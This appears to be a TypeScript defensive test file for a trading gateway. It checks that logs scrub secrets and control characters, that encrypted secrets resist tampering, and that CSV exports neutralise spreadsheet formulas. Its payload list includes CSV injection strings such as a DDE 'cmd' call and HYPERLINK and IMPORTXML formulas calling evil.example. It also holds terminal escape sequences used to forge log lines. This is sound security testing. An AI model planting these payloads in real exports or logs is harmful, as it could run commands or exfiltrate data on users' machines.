/** Secrets and forged lines in the log, a copied database, and formulas in exports: families 34, 35, 42 and 47. */
import { itemLines } from '../../../gateway/cli/lines.ts'
import { createLog } from '../../../gateway/kit/log.ts'
import { createSecretBox } from '../../../gateway/kit/secret-box.ts'
import { type Case, type Family, family } from '../attack.ts'
import { problemIf } from './checks.ts'

const LOG = 'gateway/kit/log.ts'
const SCRUB = 'gateway/kit/scrub.ts'
const BOX = 'gateway/kit/secret-box.ts'
const CSV = 'contract/csv.ts'

function lineOf(fields: object, message: string, pretty = false): string {
  let written = ''
  const log = createLog({
    pretty,
    write: (line) => {
      written += line
    },
  })
  log.warn(fields, message)
  return written
}

/** A secret that the log must not contain. */
const CANARY = 'c0ffeec0ffeec0ffeec0ffeec0'
/** Secret texts. Each contains `CANARY`. */
const TEXTS: Record<string, string> = {
  'an API key': `tt_live_abcdefgh_${CANARY}${CANARY}_12345678`,
  'an API key in upper case': `TT_LIVE_ABCDEFGH_${CANARY}`,
  'a webhook secret': `whsec_${CANARY}+/=`,
  'a token of Steam': `eyJhbGciOiJFZERTQSJ9.${CANARY}.${CANARY}`,
  'part of a token of Steam': `eyJhbGciOiJFZERTQSJ9${CANARY}`,
  'a trade link': `https://steamcommunity.com/tradeoffer/new/?partner=1&token=${CANARY}`,
  'an encoded trade link': `tradeoffer%2Fnew%3Fpartner%3D1%26token%3D${CANARY}`,
  'a header': `authorization: Bearer ${CANARY}`,
  'a cookie of Steam': `steamLoginSecure=${CANARY}; sessionid=${CANARY}`,
  'JSON in a text': `{"refresh_token":"${CANARY}"}`,
  'JSON in JSON in a text': `{\\"access_token\\":\\"${CANARY}\\"}`,
  'an address of the database': `postgres://till:${CANARY}@db.example/till`,
  'a link': `https://till.test/deposit/012345${CANARY}`,
  'a link in a query': `GET /api/payment?hash=012345${CANARY}&x=1`,
}
const PLACES: Record<string, (text: string) => [fields: object, message: string]> = {
  'in the message': (text) => [{}, `failed: ${text}`],
  'in a field': (text) => [{ note: text }, 'failed'],
  'in an error': (text) => [{ err: new Error(text) }, 'failed'],
  'in the cause of an error': (text) => [{ err: new Error('outer', { cause: new Error(text) }) }, 'failed'],
  'deep in a field': (text) => [{ a: { b: [{ c: text }] } }, 'failed'],
}
const SECRET_FIELDS = [
  'apiKey',
  'authorization',
  'cookie',
  'set-cookie',
  'x-csrf-token',
  'token',
  'tradeUrl',
  'refreshToken',
  'identity_secret',
  'shared_secret',
  'secret',
  'webhookSecret',
  'user_token',
  'partner_token',
  'password',
  'masterKey',
]

export const loggedSecrets: Family = family({
  number: 34,
  name: 'secrets in the log',
  kind: 'parts',
  defences: {
    'forms of secrets': {
      at: `${SCRUB} scrub`,
      off: [
        { file: SCRUB, from: 'return SECRET_FORMS.reduce(', to: 'return SECRET_FORMS.slice(0, 0).reduce(' },
      ],
    },
    'names of fields': {
      at: `${LOG} hideField`,
      off: [{ file: LOG, from: 'if (SECRET_KEYS.has(key)) return HIDDEN', to: '' }],
    },
    'rows quoted by database errors': {
      at: `${LOG} errorFields`,
      off: [{ file: LOG, from: '.filter(([key]) => !ROW_FIELDS.has(key.toLowerCase()))', to: '' }],
    },
  },
  honest: () =>
    problemIf(!lineOf({ botId: '7' }, 'bot refused').includes('"botId":"7"'), 'a line lacks its field'),
  cases: () => [
    ...Object.entries(TEXTS).flatMap(([what, text]) =>
      Object.entries(PLACES).map(([place, argumentsFor]) => ({
        what: `${what} ${place}`,
        stoppedBy: 'forms of secrets' as const,
        attack: () =>
          problemIf(
            lineOf(...argumentsFor(text))
              .toLowerCase()
              .includes(CANARY),
            'appears in the log',
          ),
      })),
    ),
    ...SECRET_FIELDS.map((field) => ({
      what: `a field ${field}`,
      stoppedBy: 'names of fields' as const,
      attack: () =>
        problemIf(
          lineOf({ call: { [field]: 'plain words' } }, 'x').includes('plain words'),
          'appears in the log',
        ),
    })),
    ...['detail', 'where', 'internalQuery', 'parameters'].map((field) => ({
      what: `${field} of an error of PostgreSQL`,
      stoppedBy: 'rows quoted by database errors' as const,
      attack: () =>
        problemIf(
          lineOf({ err: Object.assign(new Error('x'), { [field]: 'plain words' }) }, 'x').includes(
            'plain words',
          ),
          'appears in the log',
        ),
    })),
  ],
})

/** Control characters that JSON does not escape. */
const CONTROLS = [
  '\u007f',
  '\u0080',
  '\u0085',
  '\u009b31m',
  '\u009d0;title\u009c',
  '\u0090x',
  '\u008dx',
  '\u009f',
]
/** Control characters that JSON escapes. A readable line, which is not JSON, must replace them. */
const ESCAPED_CONTROLS = [
  '\n',
  '\r',
  '\r\n',
  '\u001b[2J',
  '\u001b]0;x\u0007',
  '\b',
  '\u0000',
  '\u000b',
  '\u000c',
]
const FORGED = '12:00:00 INFO  paid'

export const forgedLines: Family = family({
  number: 35,
  name: 'forged log lines, and control characters for terminals',
  kind: 'parts',
  defences: {
    'control characters that JSON keeps': {
      at: `${LOG} escapeControls`,
      off: [
        {
          file: LOG,
          from: 'return line.replace(/[\\u007f-\\u009f]/g, ',
          to: 'return line.replace(/(?!)/g, ',
        },
      ],
    },
    'control characters in readable lines': {
      at: `${LOG} printable`,
      off: [{ file: LOG, from: "return text.replace(/\\p{Cc}/gu, ' ')", to: 'return text' }],
    },
  },
  honest: () =>
    problemIf(!lineOf({}, 'all is well', true).endsWith('all is well\n'), 'a readable line is changed'),
  cases: () => [
    ...CONTROLS.flatMap((control) =>
      [
        ['in the message', lineOf.bind(null, {}, `x${control}y`)] as const,
        ['in a field', lineOf.bind(null, { name: `x${control}y` }, 'x')] as const,
      ].map(([place, line]) => ({
        what: `${JSON.stringify(control)} ${place}`,
        stoppedBy: 'control characters that JSON keeps' as const,
        attack: () => problemIf(/[\u007f-\u009f]/.test(line()), 'appears in the log'),
      })),
    ),
    ...ESCAPED_CONTROLS.map((control) => ({
      what: `${JSON.stringify(control)} before a forged line`,
      stoppedBy: 'control characters in readable lines' as const,
      attack: () => problemIf(/\p{Cc}./u.test(lineOf({}, `x${control}${FORGED}`, true)), 'begins a new line'),
    })),
  ],
})

const KEY = Buffer.alloc(32, 5)
const PLACE = 'bot 1 refresh_token'
const SECRET = 'a token of a bot'

function tryToOpen(sealed: Buffer, place: string, key = KEY): string | undefined {
  try {
    return createSecretBox(key).open(sealed, place)
  } catch {
    return undefined
  }
}

export const copiedDatabase: Family = family({
  number: 42,
  name: 'a copied or changed database',
  kind: 'parts',
  defences: {
    'bound to its place': {
      at: `${BOX} createSecretBox`,
      off: [
        { file: BOX, from: 'masterKey, nonce).setAAD(Buffer.from(place))', to: 'masterKey, nonce)' },
        {
          file: BOX,
          from: 'decipher.setAAD(Buffer.from(place))',
          to: 'decipher',
        },
      ],
    },
    'authenticated bytes': {
      at: `${BOX} createSecretBox`,
      off: [{ file: BOX, from: ', decipher.final()])', to: '])' }],
    },
  },
  honest: () => {
    const box = createSecretBox(KEY)
    return problemIf(box.open(box.seal(SECRET, PLACE), PLACE) !== SECRET, 'a sealed text cannot be opened')
  },
  cases() {
    const sealed = createSecretBox(KEY).seal(SECRET, PLACE)
    const places = [
      'bot 2 refresh_token',
      'bot 1 other',
      'webhook_endpoint 1 secret',
      'Bot 1 refresh_token',
      '',
      `${PLACE} `,
    ]
    const moved: Case<'bound to its place' | 'authenticated bytes'>[] = places.map((place) => ({
      what: `moved to '${place}'`,
      stoppedBy: 'bound to its place',
      attack: () => problemIf(tryToOpen(sealed, place) !== undefined, 'opens'),
    }))
    // Starts at the second byte. The first is the version of the format, which selects how the others are read.
    const flipped = Array.from({ length: sealed.length - 1 }, (_, index) => ({
      what: `a flipped bit in byte ${index + 1}`,
      stoppedBy: 'authenticated bytes' as const,
      attack() {
        const changed = Buffer.from(sealed)
        changed[index + 1] = (changed[index + 1] ?? 0) ^ 1
        return problemIf(tryToOpen(changed, PLACE) !== undefined, 'opens')
      },
    }))
    const keys = [0, 1, 31].map((at) => ({
      what: `a key that differs in byte ${at}`,
      stoppedBy: 'authenticated bytes' as const,
      attack() {
        const wrongKey = Buffer.from(KEY)
        wrongKey[at] = 6
        return problemIf(tryToOpen(sealed, PLACE, wrongKey) !== undefined, 'opens')
      },
    }))
    const cut = {
      what: 'cut short',
      stoppedBy: 'authenticated bytes' as const,
      attack: () => problemIf(tryToOpen(sealed.subarray(0, -1), PLACE) !== undefined, 'opens'),
    }
    return [...moved, ...flipped, ...keys, cut]
  },
})

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.example","x")',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  "=cmd|'/c calc'!A1",
  '==1',
  '+cmd',
  '-cmd',
  '@x',
  '=\n1',
  '=","',
  "='x'",
  '=IMPORTXML("https://evil.example","//a")',
  '-2+3+cmd',
  // White space, which spreadsheets skip before a formula; then full-width characters.
  '\r=1+1',
  '\r\n=1+1',
  '\n=1+1',
  '\r@SUM(1)',
  '\n+cmd',
  '\t-1+cmd',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '＝HYPERLINK("https://evil.example")',
  "＝cmd|'/c calc'!A1",
  // Where the comma separates decimals, a spreadsheet splits lines at semicolons. It may split at tabs, too.
  'Knife;=1+1;',
  "Knife;=cmd|'/c calc'!A1;",
  'Knife; =1+1;',
  'Knife;;+1+1',
  'Knife;-1+cmd;',
  'Knife;@SUM(1)',
  'Knife;＝1+1;',
  'Knife\t=1+1',
  'Knife;"=1+1";',
  'Knife; "=1+1";',
]

/** The first character of each cell into which a spreadsheet splits the name. */
const firstCharacters = (marketHashName: string): string => {
  const item = {
    item: '1',
    bot: 'b',
    botSteamId: '7',
    appId: 570,
    contextId: '2',
    assetId: '3',
    marketHashName,
    priceMinor: 1n,
    currency: 'USD' as const,
    receivedAt: new Date(0),
    protectedUntil: null,
  }
  const line = itemLines({ items: [item] })[1] ?? ''
  // Skips the cells before the name.
  const cells = line.slice('1,b,7,570,3,'.length).split(/[;\t]/)
  return cells.map((cell) => cell.replace(/^[" ]+/, '').slice(0, 1)).join('')
}

export const formulas: Family = family({
  number: 47,
  name: 'formulas in exports',
  kind: 'parts',
  defences: {
    'plain text': {
      at: `${CSV} textCell`,
      off: [
        { file: CSV, from: `text.replace(BEFORE_FORMULA, "$&'")`, to: 'text' },
        { file: CSV, from: 'FORMULA.test(inner)', to: 'false' },
      ],
    },
  },
  honest: () => problemIf(!firstCharacters('Knife').startsWith('K'), 'a plain name is changed'),
  cases: () =>
    FORMULAS.map((name) => ({
      what: JSON.stringify(name),
      stoppedBy: 'plain text' as const,
      attack: () => problemIf(/[=+\-@\t\r\n＝＋－＠]/.test(firstCharacters(name)), 'starts a formula'),
    })),
})
